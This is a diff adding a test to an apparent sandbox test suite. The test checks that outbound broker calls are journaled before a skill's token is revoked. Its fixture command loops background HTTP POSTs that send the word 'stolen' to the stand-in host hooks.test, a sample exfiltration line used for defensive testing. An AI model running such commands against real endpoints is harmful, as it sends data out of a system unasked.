@@ -256,6 +256,18 @@ describe.skipIf(NO_SANDBOX).each([
       for (const each of Object.values(told)) expect(String(each).length).toBeLessThan(400);
   });
 
+  test('SK-16 calls that the end of the run cuts off are told before the end of its token', async () => {
+    upstream.answer = () => undefined;
+    const skill = newSkill(
+      ['custom/hook'],
+      'for i in 1 2 3 4; do seksh http POST "https://hooks.test/$i" -d stolen & done; sleep 0.5',
+    );
+    const record = await runSkill(skillbox, skill);
+    const told = (await journalOf(skillbox, record.id)).filter(({ type }) => /^(?:broker|token)\./.test(type));
+    expect(told.map(({ type }) => type)).toEqual(['token.minted', ...Array(4).fill('broker.called'), 'token.revoked']);
+    for (const { data } of told.slice(1, -1)) expect(data).toMatchObject({ status: null, sent: 6 });
+  });
+
   test('SK-06 without the secret there is no token, and without a token no run', async () => {
     const skill = newSkill(['anthropic/messages.create', 'custom/nowhere'], 'echo started');
     const { ask, seen } = person('once');
